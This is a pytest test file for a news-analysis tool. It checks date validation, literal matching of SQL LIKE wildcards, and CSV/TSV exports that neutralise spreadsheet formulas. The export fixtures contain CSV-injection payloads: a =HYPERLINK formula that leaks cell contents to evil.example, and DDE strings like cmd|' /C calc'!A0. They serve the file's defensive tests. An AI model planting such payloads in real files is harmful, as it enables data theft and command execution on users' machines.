"""Query hardening (issue 14): date bounds checked against the calendar, LIKE wildcards in
user text taken literally, and CSV/TSV exports that a spreadsheet cannot run as formulas.

Hand-built records on both backends (no model); the CLI is driven through typer's CliRunner.
"""

from __future__ import annotations

import csv
import json

import pytest
from typer.testing import CliRunner

from onrecord.analysis.browse import list_entities
from onrecord.analysis.export import neutralise_cell, write_export
from onrecord.analysis.queries import check_date, find_entities, find_statements
from onrecord.cli.main import app
from onrecord.errors import QueryError
from onrecord.models import Event, Participant
from onrecord.store import Corpus

BAD_DATES = ["2020-13-45", "2020-02-30", "2020-00", "2021-02-29", "2020-04-31", "2020-00-10",
             "2020-12-00", "0000", "14 Jan 2020", "2020/01/14", "20200114", "2020-1-14",
             "２０２０", "2020-01-14T00:00", " 2020-01-14", ""]
GOOD_DATES = ["2020", "2020-02", "2020-02-29", "2021-12-31", "1999-01-01"]


@pytest.mark.parametrize("value", BAD_DATES)
def test_check_date_refuses_what_is_not_a_calendar_date(value):
    with pytest.raises(QueryError) as caught:
        check_date(value, "--since")
    message = str(caught.value)
    assert message.startswith("--since must be a date like 2020-01-13")
    assert repr(value) in message and "\n" not in message


def test_check_date_says_why_a_well_shaped_date_is_refused():
    with pytest.raises(QueryError, match="February 2020 has no day 30"):
        check_date("2020-02-30", "since")
    with pytest.raises(QueryError, match="there is no month 13"):
        check_date("2020-13-45", "since")
    with pytest.raises(QueryError, match="there is no month 00"):
        check_date("2020-00", "until")


@pytest.mark.parametrize("value", GOOD_DATES)
def test_check_date_accepts_real_dates(value):
    assert check_date(value, "--since") == value


# -- the corpus ---------------------------------------------------------------------------------
RAID = ("Colonel Ada Reyes said on Tuesday that Norland troops had shelled a depot in Vesk. "
        "Officials said the depot was empty.")
POLL = ("An account called grid_watch said the lights in Vesk were out for six hours. "
        "Some 40% of residents said they had no water.")


def _corpus(corpus_db, build) -> Corpus:
    reyes = build.person("e7", "Ada Reyes", (8, 17), titles=("Colonel",))
    first = build.article(
        RAID, "2024-02-07", entities=(reyes,),
        statements=(build.said(RAID, "that Norland troops had shelled a depot in Vesk", reyes,
                               "Colonel Ada Reyes", date="2024-02-06"),
                    build.said(RAID, "the depot was empty", None, "Officials",
                               sourcing="anonymous", date="2024-02-07")))
    corpus = Corpus(corpus_db)
    corpus.add(first)
    return corpus


def test_bad_dates_are_refused_by_the_queries(corpus_db, build):
    with _corpus(corpus_db, build) as corpus:
        for value in ("2024-02-30", "2024-13", "7 Feb 2024"):
            with pytest.raises(QueryError, match="must be a date like"):
                find_statements(corpus, since=value)
            with pytest.raises(QueryError, match="must be a date like"):
                find_statements(corpus, until=value)


def test_like_wildcards_match_nothing_but_themselves(corpus_db, build):
    with _corpus(corpus_db, build) as corpus:
        assert len(find_statements(corpus)) == 2
        for wildcard in ("%", "_", "%%", "_%_", "\\", "%\\%"):
            assert find_statements(corpus, speaker=wildcard) == [], wildcard
            assert find_entities(corpus, wildcard, kind=None) == [], wildcard
            assert list_entities(corpus, name=wildcard) == [], wildcard
        # a wildcard among letters is no wildcard either: "Re_es" is not "Reyes"
        assert find_statements(corpus, speaker="Re_es") == []
        assert find_statements(corpus, speaker="Offic%ls") == []
        # ordinary text still matches as before
        assert [r["speaker"] for r in find_statements(corpus, speaker="officials")] == [
            "Officials"]
        assert [r["name"] for r in list_entities(corpus, name="reye")] == ["Ada Reyes"]


def test_a_literal_percent_or_underscore_in_a_speaker_is_found(corpus_db, build):
    poll = build.article(
        POLL, "2024-02-09", source="Coastal Herald",
        statements=(build.said(POLL, "the lights in Vesk were out for six hours", None,
                               "grid_watch", sourcing="anonymous", date="2024-02-09"),
                    build.said(POLL, "they had no water", None, "Some 40% of residents",
                               sourcing="anonymous", date="2024-02-09")))
    with _corpus(corpus_db, build) as corpus:
        corpus.add(poll)
        assert [r["speaker"] for r in find_statements(corpus, speaker="grid_watch")] == [
            "grid_watch"]
        assert [r["speaker"] for r in find_statements(corpus, speaker="40%")] == [
            "Some 40% of residents"]
        assert [r["speaker"] for r in find_statements(corpus, speaker="%")] == [
            "Some 40% of residents"]
        assert [r["speaker"] for r in find_statements(corpus, speaker="_")] == ["grid_watch"]
        assert find_statements(corpus, speaker="gridXwatch") == []


# -- the CLI ------------------------------------------------------------------------------------
@pytest.fixture
def sqlite_db(tmp_path, build) -> str:
    path = str(tmp_path / "corpus.db")
    _corpus(path, build).close()
    return path


@pytest.mark.parametrize("command", ["statements", "timeline", "speakers", "contradictions"])
@pytest.mark.parametrize("option, value", [("--since", "2020-02-30"), ("--until", "2020-13"),
                                           ("--since", "2020-00"), ("--until", "14 Jan 2020")])
def test_the_cli_exits_1_with_one_line_on_a_bad_date(sqlite_db, command, option, value):
    result = CliRunner().invoke(app, [command, option, value, "--db", sqlite_db])
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"onrecord: {option} must be a date like")
    assert value in lines[0]
    assert result.stdout == ""


def test_the_cli_names_a_bad_date_before_a_missing_database(tmp_path):
    result = CliRunner().invoke(app, ["statements", "--since", "2020-02-30",
                                      "--db", str(tmp_path / "absent.db")])
    assert result.exit_code == 1 and "must be a date like" in result.stderr


# -- exports ------------------------------------------------------------------------------------
FORMULA = ('@grid_watch said =HYPERLINK("https://evil.example/?q="&A1,"details") was the link. '
           "Analysts said -2 was the reading. +cmd|' /C calc'!A0 was posted too.")


def _hostile_corpus(corpus_db, build) -> Corpus:
    statements = (
        build.said(FORMULA, '=HYPERLINK("https://evil.example/?q="&A1,"details") was the link',
                   None, "@grid_watch", sourcing="anonymous", date="2024-02-09"),
        build.said(FORMULA, "-2 was the reading", None, "Analysts", sourcing="anonymous",
                   date="2024-02-09"),
    )
    at = FORMULA.index("posted")
    event = Event("v1", "ASSAULT", "19", "posted", (at, at + 6), "occurred",
                  source=Participant("=SUM(1+1)*cmd|' /C calc'!A0", actor="USA"),
                  target=Participant("\tTab", actor="IRN"))
    record = build.article(FORMULA, "2024-02-09", source="-Minus News",
                           title="=1+2\r\nHeadline", statements=statements, events=(event,))
    corpus = Corpus(corpus_db)
    corpus.add(record)
    return corpus


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
    (-5, -5), (-2.5, -2.5), (0, 0), (None, None), (True, True),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def _csv(corpus: Corpus, table: str, fmt: str, tmp_path) -> list[dict[str, str]]:
    path = tmp_path / f"{table}.{fmt}"
    write_export(corpus, table, fmt, path)
    delimiter = "\t" if fmt == "gdelt" else ","
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


def test_csv_exports_cannot_be_run_as_formulas(corpus_db, build, tmp_path):
    with _hostile_corpus(corpus_db, build) as corpus:
        rows = {r["speaker_text"]: r for r in _csv(corpus, "statements", "csv", tmp_path)}
        assert set(rows) == {"'@grid_watch", "Analysts"}
        assert rows["'@grid_watch"]["content"].startswith("'=HYPERLINK(")
        assert rows["Analysts"]["content"] == "'-2 was the reading"
        assert rows["Analysts"]["content_start"] == str(FORMULA.index("-2"))  # numbers kept
        article = _csv(corpus, "articles", "csv", tmp_path)[0]
        assert article["title"] == "'=1+2\r\nHeadline"
        assert article["source"] == "'-Minus News"
        assert article["text"].startswith("'@grid_watch")
        events = _csv(corpus, "events", "csv", tmp_path)[0]
        assert events["source_text"].startswith("'=SUM(") and events["target_text"] == "'\tTab"
        gdelt = _csv(corpus, "events", "gdelt", tmp_path)[0]
        assert gdelt["Actor1Name"].startswith("'=SUM(") and gdelt["Actor2Name"] == "'\tTab"
        assert gdelt["QuadClass"] == "4" and gdelt["SQLDATE"] == "20240209"
        # JSON Lines keeps the text as it was: it is data, not a spreadsheet
        path = tmp_path / "statements.jsonl"
        write_export(corpus, "statements", "jsonl", path)
        said = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        assert {s["speaker_text"] for s in said} == {"@grid_watch", "Analysts"}


def test_the_export_help_says_cells_are_neutralised():
    result = CliRunner().invoke(app, ["export", "--help"], env={"COLUMNS": "200"})
    assert result.exit_code == 0
    text = " ".join(result.stdout.split())
    assert "formula" in text and "'" in text
